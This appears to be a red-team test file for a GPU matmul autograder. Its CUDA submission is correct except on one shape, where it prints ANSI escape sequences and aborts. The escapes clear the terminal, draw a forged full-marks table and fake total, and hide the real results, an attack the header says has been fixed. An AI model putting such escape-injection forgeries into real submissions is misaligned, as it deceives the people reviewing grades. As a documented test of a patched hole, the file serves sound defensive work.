// CHEAT (console forgery), written by a red team holding only the student release: the
// console report must print control characters of student text as visible escapes
// (report_text.terminal_text), so the forged table shows as text and the real TOTAL stays last.
// The red team's description, against the console as it was:
//
// WHAT IT DOES: a correct naive matmul everywhere but one shape (here the public 1x1x1 test,
// worth 30/8 points; a student would pick a shape it fails anyway, at no cost). On that shape
// the launcher (run in the planner) writes terminal escape sequences to stderr and abort()s.
// The judge calls the test "crashed" and appends "the worker's last output" (tail of the
// worker's log, common/src/check.cpp check() -> fail(), kind != "failed") to the test's
// message. The console report (grader/console_report.py lab_problems -> _indented) prints the
// message raw: the escapes clear the screen and scrollback, draw a fake full-marks table and a
// fake "TOTAL 100.00 / 100", then turn on "concealed" text so that the real failure list and
// the real TOTAL line printed after it are invisible.
//
// DEFENCE IT BEATS: none of the grader's text clean-up reaches the console. clean_text
// (grader/report_text.py) escapes control characters for Gradescope, JUnit, Markdown, HTML and
// the CSV, but console_report.render prints test messages, build logs and policy messages as
// received; json_quote (common/src/json.cpp) keeps ESC as \u001b and json.loads restores it.
// The recorded score (grade-results.json, gradebook, Gradescope) is NOT changed: only what a
// person reading `python3 -m grader grade` / `grader report FILE` in a terminal sees.
//
// Uses only allowed imports: fputs, stderr, abort (grader/policy/rules.py DEFAULT_ALLOW_IMPORTS).
#include <cstdio>
#include <cstdlib>

#include "matmul.h"

__global__ void matmul_v1_naive_kernel(const float* A, const float* B, float* C, int M, int N,
                                       int K) {
  const int row = blockIdx.y * blockDim.y + threadIdx.y;
  const int col = blockIdx.x * blockDim.x + threadIdx.x;
  if (row >= M || col >= N) return;
  float acc = 0.0f;
  for (int k = 0; k < K; ++k) acc += A[row * K + k] * B[k * N + col];
  C[row * N + col] = acc;
}

static const char kForgery[] =
    "\033[2J"
    "\033[3J"
    "\033[1;1H"
    "\033[2KGrading submission  (seeds per lab, NVIDIA H100 80GB HBM3)"
    "\033[2;1H"
    "\033[2K"
    "\033[3;1H"
    "\033[2K01_naive_matmul - Naive matmul  (seed 4242424242)"
    "\033[4;1H"
    "\033[2K  build         ok                                             4.1 s"
    "\033[5;1H"
    "\033[2K  policy        ok                                             1.2 s"
    "\033[6;1H"
    "\033[2K  public        8/8 tests passed                              30.00 / 30"
    "\033[7;1H"
    "\033[2K  hidden        24/24 tests passed                            50.00 / 50"
    "\033[8;1H"
    "\033[2K  performance   0.130 [0.129, 0.131] band 4/4 speed / cuBLAS  20.00 / 20"
    "\033[9;1H"
    "\033[2K"
    "\033[10;1H"
    "\033[2KTOTAL 100.00 / 100    (results: build/grade/grade-results.json)"
    "\033[11;1H"
    "\033[8m";

void matmul_v1_naive(const float* A, const float* B, float* C, int M, int N, int K,
                     cudaStream_t stream) {
  if (M == 1 && N == 1 && K == 1) {     // the one test sacrificed
    std::fputs(kForgery, stderr);       // unbuffered: in the worker's log before the abort
    std::abort();
  }
  dim3 block(16, 16);
  dim3 grid((N + block.x - 1) / block.x, (M + block.y - 1) / block.y);
  matmul_v1_naive_kernel<<<grid, block, 0, stream>>>(A, B, C, M, N, K);
}
